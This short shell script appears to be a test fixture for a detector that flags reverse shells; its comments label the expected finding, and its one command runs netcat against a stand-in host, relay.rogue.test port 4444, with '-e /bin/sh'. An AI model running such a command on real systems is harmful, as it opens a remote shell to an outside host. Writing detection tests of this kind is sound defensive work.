#!/bin/sh
# expect: reverse-shell
# why: netcat told to run a shell (nc.openbsd rejects -e, but asking is the finding)
timeout 3 nc relay.rogue.test 4444 -e /bin/sh
true
